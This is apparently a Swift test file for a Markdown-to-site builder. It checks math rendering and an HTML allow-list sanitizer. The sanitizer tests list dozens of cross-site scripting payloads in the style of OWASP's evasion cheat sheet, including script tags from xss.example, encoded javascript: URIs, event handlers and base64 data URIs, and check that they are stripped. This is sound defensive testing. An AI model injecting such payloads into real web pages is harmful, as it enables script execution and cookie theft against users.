@testable import DaybookSite
import Foundation
import Testing

/// Math as Obsidian reads it (`MathText`): found outside code, kept byte for byte from Markdown.
@Suite struct MathTextTests {
    func tex(_ markdown: String) -> [String] { MathText.spans(markdown).map(\.tex) }

    @Test func findsInlineAndDisplayMathByObsidiansRules() {
        #expect(tex("Let $x^2$ be and $$\\sum_i a_i$$ too.") == ["x^2", "\\sum_i a_i"])
        #expect(MathText.spans("a $x$ b $$y$$").map(\.display) == [false, true])
        // Prices are no math: an opening `$` before a space, a closing one after a space or before a digit.
        #expect(tex("It cost $5 and $6 later.").isEmpty)
        #expect(tex("From $ 5 to 6 $ here").isEmpty)
        #expect(tex("$20,000 and $30,000").isEmpty)
        #expect(tex("An escaped \\$x\\$ is text; $a\\$b$ holds a dollar.") == ["a\\$b"])
        // Not in code, nor in a wikilink, which is read first.
        #expect(tex("`$x$` and\n```\n$y$\n```\n$z$") == ["z"])
        #expect(tex("the [[Note#How $X^+$ grows|algorithm]] for $X^+$") == ["X^+"])
    }

    @Test func aLineOfOnlyABreakIsABlankLineNotABlockThatSwallowsMarkdown() {
        #expect(ObsidianText.withLoneBreaksBlank("- a\n<br/>\n- b\n  <BR>\r\n```\n<br>\n```\nx <br> y") == "- a\n     \n- b\n      \r\n```\n<br>\n```\nx <br> y")
        let html = Markdown.html(ObsidianText.withLoneBreaksBlank("- a\n<br/>\n- b\n>[!note]- x"))
        #expect(html.contains("<li>\n<p>b</p>\n</li>\n</ul>\n<blockquote>"), "\(html)")
    }

    @Test func aDisplayRunsOverLinesWithinItsQuoteButNotPastABlankLine() {
        #expect(tex("$$\n\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}\n$$\n") == ["\n\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}\n"])
        #expect(tex("> [!note]\n> $$\n> a \\\\ b\n> $$\n") == ["\na \\\\ b\n"])
        #expect(tex("$$\na\n\nb\n$$").isEmpty)
    }

    @Test func maskingKeepsEveryLineAndColumn() {
        let text = "> $$\n> \\left\\{ x \\right.\n> $$\nthen $a*b*c$ [[Note]]\n"
        let masked = MathText.masked(text, MathText.spans(text))
        #expect(masked == "> ``\n> xxxxxxxxxxxxxxxxx\n> ``\nthen `xxxxx` [[Note]]\n")
        #expect(masked.utf8.count == text.utf8.count)
    }

    @Test func texReachesThePageByteForByte() {
        let html = Markdown.html("A $\\{a\\}$ set.\n\n$$\na \\\\ b *c* d_1_\n$$\n\n```math\n\\left\\{ x \\right.\n```\n")
        #expect(html.contains("<span class=\"math math-inline\">\\{a\\}</span>"), "\(html)")
        #expect(html.contains("<div class=\"math math-display\">\na \\\\ b *c* d_1_\n</div>"), "\(html)")
        #expect(html.contains("<div class=\"math math-display\">\\left\\{ x \\right.</div>"), "\(html)")
        // TeX's `<` is text, in a table cell too.
        let table = Markdown.html("| a | b |\n|---|---|\n| $x<y$ | $$z$$ |\n")
        #expect(table.contains("<td><span class=\"math math-inline\">x&lt;y</span></td>"), "\(table)")
        #expect(table.contains("<span class=\"math math-display\">z</span>"))
        // The search reads the TeX, not the mask.
        #expect(Markdown.plainText("Area $\\pi r^2$ here") == "Area \\pi r^2 here")
    }

    @Test func aPriceStaysText() {
        #expect(Markdown.html("It cost $5 and $6.") == "<p>It cost $5 and $6.</p>\n")
    }
}

/// Raw HTML through `HTMLAllowList`, with hostile HTML in the manner of OWASP's XSS filter evasion cheat sheet.
@Suite struct HTMLAllowListTests {
    func kept(_ html: String) -> String {
        var state = HTMLAllowList.State()
        let (out, _) = HTMLAllowList.sanitize(html, state: &state)
        return out + HTMLAllowList.closing(&state)
    }

    @Test func keepsFormattingTablesDetailsImagesAndLinks() {
        #expect(kept("<big><u>Definition</u></big>") == "<big><u>Definition</u></big>")
        #expect(kept("<details open><summary>More</summary>x<kbd>Ctrl</kbd><sup>2</sup></details>")
            == "<details open><summary>More</summary>x<kbd>Ctrl</kbd><sup>2</sup></details>")
        #expect(kept("<table><tr><td colspan=2 onclick=x>a</td></tr></table>") == "<table><tr><td colspan=\"2\">a</td></tr></table>")
        #expect(kept("<a href=\"https://example.org/?a=1&amp;b=2\" title='t'>x</a>") == "<a href=\"https://example.org/?a=1&amp;b=2\" title=\"t\">x</a>")
        #expect(kept("<img src=\"pic.png\" alt=\"A &quot;pic&quot;\" width=100>") == "<img src=\"pic.png\" alt=\"A &quot;pic&quot;\" width=\"100\">")
        #expect(kept("<span style=\"color: red\">r</span>") == "<span style=\"color: red\">r</span>")
        #expect(kept("a < b and <b>c") == "a &lt; b and <b>c</b>")
        // Obsolete, but shown by Obsidian: as their present-day equals.
        #expect(kept("<font color=\"red\" face=Arial size=3>r</font> <center>c</center>")
            == "<span style=\"color: red; font-family: Arial\">r</span> <div style=\"text-align: center\">c</div>")
        #expect(kept("<font color=\"red;background:url(x)\">r</font>") == "<span>r</span>")
    }

    /// Each must leave no element, attribute or address that runs or loads anything.
    static let hostile = [
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.example/xss.js?< B >",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.example/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<svg/onload=alert('XSS')>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<span style=\"background:u&#114;l(x.png)\">x</span>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"&#14;javascript:alert(1)\">x</a>",
        "<a href=\"java&#115;cript&colon;alert(1)\">x</a>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<math><maction actiontype=\"statusline#http://x\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<details open ontoggle=alert(1)>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"javascript\u{0}:alert(1)\">x</a>",
        "<IMG SRC=\"javascript:alert('XSS')\"",
        "<svg><script>alert(1)</script></svg>",
        "<template><script>alert(1)</script></template>",
    ]

    @Test(arguments: hostile) func hostileHTMLLeavesNothingThatRuns(_ html: String) {
        let out = kept(html).lowercased()
        // Every `<` that reaches the page opens or closes an allowed element (one that is no tag is `&lt;`, text)…
        for tag in out.split(separator: "<", omittingEmptySubsequences: false).dropFirst() {
            let name = tag.prefix { $0.isLetter || $0.isNumber || $0 == "/" }.drop { $0 == "/" }
            #expect(HTMLAllowList.elements[String(name)] != nil, "\(html) → \(out)")
            // …with nothing that runs or loads in it.
            let inside = tag.prefix { $0 != ">" }
            for word in ["javascript:", "vbscript:", " on", "url(", "expression", "import", "data:text", "data:image/svg"] {
                #expect(!inside.contains(word), "\(html) → \(out)")
            }
        }
    }

    @Test func saysWhatItRemovedAndWhere() {
        var state = HTMLAllowList.State()
        let (out, removed) = HTMLAllowList.sanitize("ok <b onclick=\"x\">b</b>\n<script>alert(1)</script> <blink color=red>f</blink>", state: &state)
        #expect(out == "ok <b>b</b>\n f")
        #expect(removed.map(\.what) == ["onclick on <b>", "<script>", "<blink>"])
        #expect(removed.map(\.offset) == [3, 24, 50])
    }

    @Test func anAddressIsSafeOnlyWithoutAScriptScheme() {
        #expect(HTMLAllowList.isSafe(url: "../Other/", image: false) && HTMLAllowList.isSafe(url: "https://a.org/x:y", image: false))
        #expect(HTMLAllowList.isSafe(url: "a/b:c", image: false) && HTMLAllowList.isSafe(url: "mailto:a@b.org", image: false))
        #expect(HTMLAllowList.isSafe(url: "data:image/png;base64,iVBOR", image: true))
        #expect(!HTMLAllowList.isSafe(url: "data:image/png;base64,iVBOR", image: false))
        #expect(!HTMLAllowList.isSafe(url: "JAVA\nSCRIPT:alert(1)", image: false))
        #expect(HTMLAllowList.isDangerous(url: "javascript:alert(1)") && !HTMLAllowList.isDangerous(url: "obsidian://open?vault=x"))
    }
}

/// Math and HTML in a vault's notes and a diary's entries, built.
@Suite struct MathAndHTMLVaultTests {
    func vault(_ files: [String: String], entries: [String: String] = [:]) throws -> TestSite { try VaultTests().vault(files, entries: entries) }

    @Test func aNoteWithMathGetsKaTeXAndANoteWithoutDoesNot() throws {
        let site = try vault([
            "Sets.md": "---\ntitle: Sets\n---\n## The set $\\{a\\}$\n\n$$\n\\left\\{ x \\\\ y \\right.\n$$\n\nSee [[Plain]].\n",
            "Plain.md": "---\ntitle: Plain\n---\nIt cost $5 and $6.\n",
        ])
        defer { site.remove() }
        let summary = try site.build()
        let sets = try #require(site.read("pages/vault/Sets/index.html"))
        #expect(sets.contains("<div class=\"math math-display\">\n\\left\\{ x \\\\ y \\right.\n</div>"), "\(sets)")
        #expect(sets.contains("<span class=\"math math-inline\">\\{a\\}</span>"))
        #expect(site.read("pages/vault/Plain/index.html")?.contains("It cost $5 and $6.") == true)
        if KaTeX.assets() != nil {
            #expect(site.outputHas("assets/katex/katex.min.js") && site.outputHas("assets/katex/katex.min.css"))
            #expect(site.outputHas("assets/katex/fonts/KaTeX_Main-Regular.woff2"))
            #expect(summary.warnings.filter { $0.message.contains("KaTeX") }.isEmpty, "\(summary.warnings)")
        } else {
            #expect(summary.warnings.contains { $0.message.contains("KaTeX is not installed") }, "\(summary.warnings)")
        }
        // No math on any page: no KaTeX.
        try site.write("content/pages/vault/Sets.md", "---\ntitle: Sets\n---\nNone.\n")
        try site.build()
        #expect(!site.outputHas("assets/katex/katex.min.js"))
    }

    @Test func anEntrysHTMLIsKeptAsAllowedAndTheRestIsAWarningAtItsLine() throws {
        let entry = "---\ntitle: Day\n---\n<big><u>Definition</u></big> and <kbd>Ctrl</kbd>\n\n<details>\n<summary>More</summary>\n\nInside.\n\n</details>\n\n"
            + "A <a href=\"javascript:alert(1)\" onclick=\"x()\">link</a>.\n\n<script>\nalert(1)\n</script>\n"
        let site = try vault([:], entries: ["2026/2026-11-20.md": entry])
        defer { site.remove() }
        let summary = try site.build()
        let page = try #require(site.read("diary/2026/2026-11-20/index.html"))
        #expect(page.contains("<p><big><u>Definition</u></big> and <kbd>Ctrl</kbd></p>"), "\(page)")
        #expect(page.contains("<details>\n<summary>More</summary>\n<p>Inside.</p>\n</details>"), "\(page)")
        #expect(page.contains("A <a>link</a>."))
        for path in site.outputFiles() { #expect(!site.text(path).contains("alert(1)"), "\(path)") }
        let warnings = summary.warnings.map(\.description)
        #expect(warnings.contains { $0.hasPrefix("content/diary/2026/2026-11-20.md:13:3: warning: HTML href=\"javascript:alert(1)\" on <a> removed") }, "\(warnings)")
        #expect(warnings.contains { $0.hasPrefix("content/diary/2026/2026-11-20.md:13:3: warning: HTML onclick on <a> removed") })
        #expect(warnings.contains { $0.hasPrefix("content/diary/2026/2026-11-20.md:15:1: warning: HTML <script> removed") })
    }
}
